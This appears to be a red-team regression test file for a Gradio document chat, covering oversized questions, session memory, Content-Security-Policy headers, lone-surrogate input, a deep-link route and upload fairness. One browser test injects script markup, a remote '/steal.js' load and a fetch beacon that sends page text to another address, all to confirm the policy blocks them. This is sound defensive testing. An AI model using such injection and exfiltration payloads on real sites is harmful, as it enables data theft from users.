"""The tenth red-team pass on a running web chat: a question of megabytes typed into the page,
what each page session keeps of the documents' list, what the page's Content-Security-Policy
lets a browser run or reach (the chat's page and the one shown while the index loads), text
holding a lone surrogate, Gradio's deep-link route, and one client's uploads ahead of
everyone else's; each sent over HTTP (or in a real browser) as a hostile client would.

The servers here are served as `assistant ui` serves them (the chat mounted on the early
server) with the fake embedder, so these run in seconds.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import threading
import time
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from browsers import chromium, playwright_api, refused_by_policy
from servers import Outside, free_port, thread_uvicorn
from test_redteam import one_sentence
from test_redteam4 import Limited, _client, _page_event, _served
from test_redteam9 import _page

# ---------------------------------------------------------------- a question of megabytes


def _page_stream(url: str, index: int, data: list[Any], session: str) -> tuple[int, list[Any]]:
    """Join a page event as the page does; (bytes of its event stream, its events)."""
    with httpx.Client(timeout=120) as client:
        body = {"data": data, "fn_index": index, "session_hash": session}
        joined = client.post(f"{url}/gradio_api/queue/join", json=body)
        assert joined.status_code == 200, joined.text[:300]
        stream = client.get(f"{url}/gradio_api/queue/data", params={"session_hash": session})
        events = [
            json.loads(part.removeprefix("data: "))
            for part in stream.text.split("\n\n")
            if part.startswith("data: ")
        ]
        return len(stream.content), events


def test_a_question_of_megabytes_is_refused_in_one_sentence_not_echoed(plain: Limited) -> None:
    # Found in red team 9: a 7 MB question typed into the page (under the 8 MB body limit)
    # was refused as too long, and the refusal sent the question back as the box's value,
    # once as the streamed output and again as the call's result: 14 MB out for 7 MB in.
    # It is now refused before anything else, in one toast, and nothing is sent back: the
    # page's box keeps its own copy to shorten.
    huge = "why " * 1_750_000  # 7 MB
    began = time.monotonic()
    sent, events = _page_stream(
        plain.url, _page_event(plain.url, "respond"), [huge, [], [], 4, None], "huge"
    )
    assert time.monotonic() - began < 10
    assert sent < 20_000, f"{sent:,} bytes came back for a refused question"
    said = [e["log"] for e in events if e.get("msg") == "log"]
    assert len(said) == 1 and one_sentence(said[0]), said
    assert "characters long, over the 2000 limit" in said[0], said
    done = [e for e in events if e.get("msg") == "process_completed"]
    assert done and done[0]["success"], events[-3:]


def test_a_question_of_blanks_around_a_few_words_is_answered_not_echoed(plain: Limited) -> None:
    # The limit counts the question as the bot reads it (its blanks collapsed), so 6 MB of
    # spaces around a question is a question; what comes back is the collapsed question in
    # the chat, not the 6 MB the box sent.
    padded = " " * 3_000_000 + "Where does Amazon build custom chips?" + " " * 3_000_000
    sent, events = _page_stream(
        plain.url, _page_event(plain.url, "respond"), [padded, [], [], 4, None], "padded"
    )
    assert sent < 200_000, f"{sent:,} bytes came back"
    done = [e for e in events if e.get("msg") == "process_completed"]
    assert done and done[0]["success"] and "Austin" in json.dumps(done[0]["output"]), events[-2:]


# ---------------------------------------------------------------- what a page session keeps


def test_a_page_session_keeps_no_copy_of_the_documents_list(tmp_path: Path) -> None:
    # Left by red team 9: each page session that listed the documents (every page load
    # does) kept its own copy of the remove list, remade with every update, holding every
    # document's name: 42 KB a session with 300 documents and 110 KB with 1,000 (measured
    # with tracemalloc), for each of up to 10,000 sessions, 1.1 GB. The list takes any
    # value (the bot checks the name), so its choices check nothing: once its update is
    # sent, a session keeps the page's own list (11 KB a session, with 0 or 1,000 documents).
    docs = {f"herd-survey-{i:04d}.txt": f"Zebra {i} grazes at dawn." for i in range(300)}
    with _served(tmp_path, documents=docs) as chat:
        kind, (_table, choices) = _page(chat, "refresh", [], session="lister")
        assert kind == "complete"
        shown = [value for _label, value in choices["choices"]]
        assert "herd-survey-0299.txt" in shown  # the page is sent the list in full
        kept = chat.demo.state_holder.session_data["lister"].blocks_config.blocks
        own = {
            key: block
            for key, block in kept.items()
            if block is not chat.demo.default_config.blocks.get(key)
        }
        assert not [b for b in own.values() if isinstance(b, gr.Dropdown)], own
        # ... and a name picked from it is still removed, in that session.
        kind, outputs = _page(chat, "remove", ["herd-survey-0007.txt"], session="lister")
        assert kind == "complete" and "herd-survey-0007.txt" not in json.dumps(outputs[2])
        assert not (chat.docs / "herd-survey-0007.txt").exists()


# ---------------------------------------------------------------- what the page may run


def test_the_pages_policy_names_its_scripts_and_lets_it_reach_no_other_address(
    plain: Limited,
) -> None:
    # Left by red team 9: the page's Content-Security-Policy limited images, media, frames
    # and plugins only: markup that slipped into the page could run any inline script or
    # event handler, load a script from any site, and send whatever the page shows (every
    # document's name, the answers) to any address. Now everything comes from this server,
    # what the page's scripts fetch goes to it alone, and of inline scripts only the page's
    # own run, each named by its hash.
    reply = httpx.get(f"{plain.url}/", timeout=30)
    parts = reply.headers["content-security-policy"].split(";")
    policy = dict(part.strip().partition(" ")[::2] for part in parts)
    assert policy["default-src"] == "'self'" and policy["connect-src"] == "'self'", policy
    assert policy["script-src"].startswith("'self' 'unsafe-eval' 'sha256-"), policy
    assert "'unsafe-inline'" not in policy["script-src"] and "*" not in policy["script-src"]
    inline = re.findall(r"<script\b(?![^>]*\bsrc=)[^>]*>(.*?)</script>", reply.text, re.S)
    assert len(inline) >= 3  # Gradio's configuration, its API's description, its start-up
    for script in inline:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy["script-src"], script[:80]
    # A file served by Gradio's file route is what its type says, never sniffed as a page.
    assert reply.headers["x-content-type-options"] == "nosniff"


# Another site, which lets any page read its answers (so only the page's own policy can stop
# a request) and answers with a script that marks that it ran.
_OUTSIDE_SCRIPT = b"window.__loaded = 1;"
_OUTSIDE_HEADERS = ((b"access-control-allow-origin", b"*"), (b"content-type", b"text/javascript"))


def test_markup_that_slipped_into_the_page_runs_nothing_and_sends_nothing_away(
    plain: Limited,
) -> None:
    # The same, in a real browser: markup placed in the page as a document's text would be
    # if escaping ever failed, an inline script, an event handler, a script from another
    # address, and a fetch sending the page's text there. Before, the other address was
    # sent the script's request and the fetch, and the script ran.
    sync_api = playwright_api()
    outside = Outside(_OUTSIDE_SCRIPT, _OUTSIDE_HEADERS)
    with thread_uvicorn(outside) as port, chromium(sync_api) as browser:
        page = browser.new_page()
        page.set_default_timeout(60_000)
        page.goto(plain.url)
        sync_api.expect(page.locator("#documents")).to_contain_text("a.txt")
        fetched = page.evaluate(
            """(other) => {
            const slipped = document.createElement('div');
            slipped.innerHTML = '<img src="data:," onerror="window.__handler = 1">';
            document.body.append(slipped);
            const inline = document.createElement('script');
            inline.textContent = 'window.__inline = 1';
            document.head.append(inline);
            const remote = document.createElement('script');
            remote.src = other + '/steal.js';
            document.head.append(remote);
            const page = encodeURIComponent(document.body.innerText.slice(0, 200));
            return fetch(other + '/beacon?page=' + page).then(() => 'sent', () => 'refused');
        }""",
            f"http://127.0.0.1:{port}",
        )
        page.wait_for_timeout(1000)
        ran = page.evaluate("[window.__handler, window.__inline, window.__loaded]")
    assert fetched == "refused" and outside.seen == [], outside.seen
    assert ran == [None, None, None], ran


# ---------------------------------------------------------------- text that is not text


def _raw_page_call(url: str, index: int, data: bytes, session: str) -> tuple[int, list[Any]]:
    """A page event whose values are sent as these raw JSON bytes: (the join's status, the
    events of its stream, which must end with its result)."""
    body = b'{"data": %s, "fn_index": %d, "session_hash": "%s"}' % (data, index, session.encode())
    headers = {"content-type": "application/json"}
    with httpx.Client(timeout=60) as client:
        joined = client.post(f"{url}/gradio_api/queue/join", content=body, headers=headers)
        if joined.status_code != 200:
            return joined.status_code, [joined.json()]
        stream = client.get(f"{url}/gradio_api/queue/data", params={"session_hash": session})
        events = [
            json.loads(part.removeprefix("data: "))
            for part in stream.text.split("\n\n")
            if part.startswith("data: ")
        ]
        return joined.status_code, events


@pytest.mark.parametrize(
    ("handler", "data", "shown"),
    [
        ("respond", rb'["Where does Amazon build chips? \ud800", [], [], 4, null]', "Austin"),
        ("respond", rb'["Where does \udfff Amazon build chips?", [], [], 4, null]', "Austin"),
        ("confirm_remove", rb'["a\ud800.txt"]', "a\ufffd.txt"),
        ("remove", rb'["a\udc00.txt"]', "a\ufffd.txt"),
    ],
)
def test_a_lone_surrogate_sent_as_text_is_shown_not_a_broken_stream(
    plain: Limited, capfd: pytest.CaptureFixture[str], handler: str, data: bytes, shown: str
) -> None:
    # Found in this pass: JSON may escape half of a UTF-16 pair ("\ud800"), which Python
    # reads as a lone surrogate and Gradio's JSON writer refuses: a question with one was
    # echoed into the chat, and the event stream broke off mid-answer with a 120-line
    # traceback in the server's log (a client sending them in a loop filled the log). Every
    # value sent to a page event or endpoint now has each lone surrogate read as U+FFFD.
    index = next(i for i, fn in plain.demo.fns.items() if fn.fn.__name__ == handler)
    status, events = _raw_page_call(plain.url, index, data, f"lone-{handler}")
    assert status == 200, events
    done = [e for e in events if e.get("msg") == "process_completed"]
    assert done and done[0]["success"], events[-2:]
    assert shown in json.dumps(done[0]["output"], ensure_ascii=False), done[0]["output"]
    time.sleep(0.3)
    assert "Traceback" not in capfd.readouterr().err


# ---------------------------------------------------------------- routes the product lacks


def test_gradios_deep_link_route_writes_nothing(plain: Limited) -> None:
    # Found in this pass: GET /gradio_api/deep_link?session_hash=NAME, for a "deep link"
    # the chat does not offer, wrote the named session's components to
    # deep_links/<hash>/state.json in the upload folder, for any visitor naming any session:
    # a write outside the documents folder that no sweep of uploads counted. It now gets 404
    # and one sentence, and writes nothing.
    _page(plain, "refresh", [], session="linked")
    links = Path(plain.demo.GRADIO_CACHE) / "deep_links"
    before = set(links.iterdir()) if links.is_dir() else set()
    reply = httpx.get(
        f"{plain.url}/gradio_api/deep_link", params={"session_hash": "linked"}, timeout=30
    )
    assert reply.status_code == 404, reply.text[:300]
    assert one_sentence(reply.json()["detail"]), reply.text[:300]
    assert (set(links.iterdir()) if links.is_dir() else set()) == before


# ---------------------------------------------------------------- one client's uploads


def _upload_from(address: str, chat: Limited, names: list[str], session: str) -> None:
    """Send files from address as the page does: to Gradio's upload route, then to the
    page's upload event, which queues them for indexing and returns at once."""
    index = next(i for i, fn in chat.demo.fns.items() if fn.fn.__name__ == "upload_page")
    with _client(address) as client:
        parts = [("files", (n, f"Zebras of {n} graze.".encode(), "text/plain")) for n in names]
        sent = client.post(f"{chat.url}/gradio_api/upload", files=parts)
        assert sent.status_code == 200, sent.text[:200]
        files = [{"path": p, "meta": {"_type": "gradio.FileData"}} for p in sent.json()]
        body = {"data": [files, []], "fn_index": index, "session_hash": session}
        joined = client.post(f"{chat.url}/gradio_api/queue/join", json=body)
        assert joined.status_code == 200, joined.text[:200]
        stream = client.get(f"{chat.url}/gradio_api/queue/data", params={"session_hash": session})
        assert '"process_completed"' in stream.text and '"success":true' in stream.text


def test_one_clients_uploads_take_turns_with_another_clients(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Found in this pass: uploads were indexed one at a time in the order they came, so a
    # client sending many slow files (a scanned PDF within every limit takes minutes of
    # OCR) made every other visitor's upload wait for all of them. The indexer now takes
    # each client's uploads in turn: another visitor's waits for the one being indexed.
    from assistant import Assistant

    started, go, order = threading.Event(), threading.Event(), []
    add = Assistant.add_document

    def slow(self: Any, name: str, *args: Any, **kwargs: Any) -> Any:
        order.append(name)
        started.set()
        go.wait(30)  # the first upload holds the indexer until the other client has sent
        return add(self, name, *args, **kwargs)

    monkeypatch.setattr(Assistant, "add_document", slow)
    with _served(tmp_path) as chat:
        mine = [f"mine{i}.txt" for i in range(5)]
        _upload_from("127.0.0.1", chat, mine, "first")
        assert started.wait(30)
        _upload_from("127.0.0.2", chat, ["theirs.txt"], "second")
        go.set()
        deadline = time.monotonic() + 60
        while len(order) < 6 and time.monotonic() < deadline:
            time.sleep(0.1)
    assert order == ["mine0.txt", "theirs.txt", *mine[1:]], order


class _HeldBot:
    """Stands for an Assistant whose indexing waits until released."""

    def __init__(self) -> None:
        from assistant import Settings

        self.release = threading.Event()
        self.settings, self.docs_dir = Settings(), None  # what the indexer reads of a bot

    def add_document(self, name: str, content: bytes, **_: Any) -> Any:
        from assistant.schema import SyncReport

        self.release.wait(60)
        return SyncReport()


def test_one_client_cannot_take_every_waiting_place() -> None:
    # Found in this pass: at most 100 uploads may wait, and one client could take them all,
    # so every other visitor's upload was refused for as long as they waited. One client may
    # now take three quarters of them (a folder dropped at once still goes in).
    from assistant.errors import InputError
    from assistant.ui import _Indexer

    bot = _HeldBot()
    indexer = _Indexer(bot, child_from=None, max_waiting=8)  # type: ignore[arg-type]
    try:
        ids = [indexer.submit(f"n{i}.txt", b"Zebras.", "203.0.113.9") for i in range(6)]
        with pytest.raises(InputError, match="6 of your uploads are already waiting"):
            indexer.submit("n6.txt", b"One too many.", "203.0.113.9")
        ids.append(indexer.submit("other.txt", b"Another visitor's.", "198.51.100.7"))
        bot.release.set()
        indexer.wait(ids)
    finally:
        bot.release.set()
        indexer.close()


# ---------------------------------------------------------------- the page before the chat


def test_the_starting_page_may_be_framed_by_no_site_and_runs_only_its_own_script() -> None:
    # Found in this pass: the page served while the index loads (minutes for a big folder)
    # carried no Content-Security-Policy, no X-Frame-Options and no nosniff, where the chat's
    # page carries all three: any site could frame it. It now carries a policy as strict as
    # it allows (its one script by hash, requests to this server only), and still updates
    # its line in a real browser with nothing refused.
    from assistant.startup import StartupProgress, serve_early

    progress = StartupProgress(lambda _line: None)
    port = free_port()
    server = serve_early(progress, host="127.0.0.1", port=port)
    try:
        progress.set_line("Reading and splitting the changed documents: 40%")
        reply = httpx.get(f"http://127.0.0.1:{port}/", timeout=10)
        policy = reply.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy, policy
        assert "connect-src 'self'" in policy and "'unsafe-inline'" not in policy.split(";")[1]
        assert reply.headers.get("x-frame-options") == "DENY"
        assert reply.headers.get("x-content-type-options") == "nosniff"
        script = reply.text.split("<script>", 1)[1].split("</script>", 1)[0]
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy

        sync_api = playwright_api()
        with chromium(sync_api) as browser:
            page = browser.new_page()
            refused = refused_by_policy(page)
            page.goto(f"http://127.0.0.1:{port}/")
            progress.set_line("Embedding the new passages: 70%")  # the script polls it
            sync_api.expect(page.locator("#startup")).to_contain_text(
                "Embedding the new passages", timeout=30_000
            )
        assert refused == [], refused
    finally:
        server.stop()
